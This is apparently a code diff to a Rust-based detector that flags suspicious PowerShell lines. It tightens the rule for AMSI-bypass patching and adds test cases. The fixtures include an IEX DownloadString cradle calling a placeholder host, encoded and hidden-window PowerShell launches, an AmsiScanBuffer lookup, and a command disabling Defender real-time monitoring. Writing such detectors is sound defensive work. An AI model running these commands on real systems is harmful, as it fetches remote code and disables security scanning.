@@ -84,7 +84,18 @@ fn judge(line: &str) -> Option<(f64, f64, &'static str)> {
     if starts && encoded_argument(line) {
         return Some((0.95, 0.85, "A PowerShell command is encoded so that nobody can read it."));
     }
-    if ["amsiutils", "amsiinitfailed", "amsiscanbuffer"].iter().any(|name| line.contains(name)) {
+    let patches = [
+        "getprocaddress",
+        "virtualprotect",
+        "writeprocessmemory",
+        "marshal",
+        "patch",
+        "[byte[]]",
+        "getmethod",
+        "getfield",
+    ];
+    let scanner = line.contains("amsiscanbuffer") && patches.iter().any(|part| line.contains(part));
+    if scanner || ["amsiutils", "amsiinitfailed"].iter().any(|name| line.contains(name)) {
         return Some((0.93, 0.7, "Scanning of scripts (AMSI) is switched off."));
     }
     let defender =
@@ -158,6 +169,7 @@ mod tests {
                 ("powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0A", 0..45),
                 ("powershell.exe -w hidden -nop -c \"x\"", 0..36),
                 ("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')", 0..67),
+                ("$a = [Win32]::GetProcAddress($h, 'AmsiScanBuffer')", 34..50),
                 ("Set-MpPreference -DisableRealtimeMonitoring $true", 3..49),
             ],
             &[
@@ -166,6 +178,7 @@ mod tests {
                 "$bytes = [Convert]::FromBase64String($text)",
                 "pwsh -NoProfile -Command ./test.ps1",
                 "a dramsignal",
+                "pub unsafe fn AmsiScanBuffer(context: HAMSICONTEXT, length: u32) -> Result<()> {",
             ],
         );
     }
